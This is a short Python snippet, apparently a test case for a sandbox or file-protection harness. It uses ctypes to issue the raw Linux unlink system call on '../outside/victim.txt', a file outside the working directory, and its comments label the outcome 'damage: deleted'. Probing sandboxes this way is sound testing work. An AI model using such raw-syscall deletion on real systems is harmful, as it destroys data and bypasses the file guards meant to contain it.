# The system call itself.
# damage: deleted
# needs: linux, x86_64, ctypes
import ctypes

UNLINK = 87
ctypes.CDLL(None).syscall(UNLINK, b"../outside/victim.txt")
